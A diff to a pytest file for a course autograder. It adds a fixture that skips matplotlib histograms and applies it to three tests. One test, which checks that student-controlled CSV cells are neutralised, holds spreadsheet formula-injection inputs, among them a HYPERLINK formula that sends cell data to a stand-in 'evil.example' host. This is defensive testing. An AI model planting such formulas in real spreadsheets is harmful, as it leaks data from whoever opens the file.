@@ -34,6 +34,7 @@ from autograder.config import REPO_ROOT, SubmissionLimits, load_course
 from autograder.grading.submission import load_submission
 from autograder.student_files import scan
 from autograder.workflow import grade_class as grade_class_module
+from autograder.workflow import report as report_module
 from autograder.workflow.arrival import student_id_problem
 from autograder.workflow.collect import collect, collect_assignment, collected_students
 from autograder.workflow.course_copy import write_course_copy
@@ -69,6 +70,12 @@ def released(tmp_path_factory):
 def course(released, tmp_path):
     shutil.copytree(released, tmp_path / "curso", symlinks=True)
     return load_course(tmp_path / "curso" / "course.yaml")
+
+
+@pytest.fixture
+def no_plots(monkeypatch):
+    """The class report without its histograms (matplotlib costs seconds; they are not under test here)."""
+    monkeypatch.setattr(report_module, "histograms_png", lambda parts, reports: "")
 
 
 @pytest.fixture
@@ -573,7 +580,7 @@ def test_student_ids_that_are_not_names_are_refused(course, tmp_path):
 
 # --- spreadsheets: a cell a student controls never runs as a formula ---
 
-def test_csv_cells_a_student_controls_are_neutralised(course):
+def test_csv_cells_a_student_controls_are_neutralised(course, no_plots):
     hostile = ['=HYPERLINK("http://evil.example/?"&A1,"ver")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]
     rows = [{"student": s, "p": 1.0, "total": 1.0, "late_penalty": 0.0, "final": 1.0, "status": "graded"} for s in hostile]
     rows.append({"student": "ana", "p": 2.5, "total": 2.5, "late_penalty": 0.0, "final": 2.5, "status": "graded"})
@@ -597,7 +604,7 @@ def test_csv_cells_a_student_controls_are_neutralised(course):
 
 # --- recording: a failure to record one result is a grader error, never that student's 0 ---
 
-def test_a_failed_gradebook_write_is_retried_then_reported_never_zeroed(course, monkeypatch):
+def test_a_failed_gradebook_write_is_retried_then_reported_never_zeroed(course, monkeypatch, no_plots):
     notebook = stub_notebook(course)
     submit_raw(course, "ana", {NOTEBOOK: notebook})
     submit_raw(course, "ines", {NOTEBOOK: notebook + b" "})
@@ -637,7 +644,7 @@ def test_a_failed_gradebook_write_is_retried_then_reported_never_zeroed(course, 
         assert gradebook_scores(course, ASSIGNMENT, gradebook)["ines"]["score"] == 90
 
 
-def test_a_failed_report_write_is_reported_with_the_score(course, monkeypatch):
+def test_a_failed_report_write_is_reported_with_the_score(course, monkeypatch, no_plots):
     notebook = stub_notebook(course)
     submit_raw(course, "ana", {NOTEBOOK: notebook})
     submit_raw(course, "ines", {NOTEBOOK: notebook + b" "})
